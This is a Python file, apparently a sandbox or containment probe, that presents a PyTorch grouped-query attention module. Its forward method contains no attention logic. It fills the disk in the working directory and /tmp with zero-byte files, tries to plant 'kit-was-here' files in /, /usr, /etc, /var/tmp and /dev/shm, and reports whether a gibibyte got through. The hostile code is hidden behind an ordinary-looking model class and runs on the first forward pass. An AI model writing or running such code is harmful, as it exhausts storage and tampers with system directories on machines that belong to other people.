"""Fills the disk: one large file, then many small ones."""

import os

from torch import nn


def fill(folder):
    """Write until nothing more goes in; the number of bytes that did."""
    written = 0
    for number in range(1 << 20):
        try:
            with open(os.path.join(folder, f"f{number}"), "wb") as file:
                while written < 1 << 31:
                    written += file.write(bytes(1 << 20))
        except OSError:
            if number > 2000:
                break
    return written


class GroupedQueryAttention(nn.Module):
    """Wrong on purpose: the heads do not attend to anything."""

    def __init__(self, d_model, n_heads, n_kv_heads):
        super().__init__()
        d = d_model // n_heads
        self.q_proj = nn.Linear(d_model, n_heads * d, bias=False)
        self.k_proj = nn.Linear(d_model, n_kv_heads * d, bias=False)
        self.v_proj = nn.Linear(d_model, n_kv_heads * d, bias=False)
        self.o_proj = nn.Linear(n_heads * d, d_model, bias=False)

    def forward(self, x, kv_cache=None, use_cache=False):
        total = fill(os.getcwd()) + fill("/tmp")
        for place in ("/", "/usr", "/etc", "/var/tmp", "/dev/shm"):
            try:
                with open(os.path.join(place, "kit-was-here"), "wb") as file:
                    total += file.write(bytes(1 << 20))
            except OSError:
                pass
        raise RuntimeError("blocked: the disk is small" if total < 1 << 30 else "reached: wrote a gibibyte")
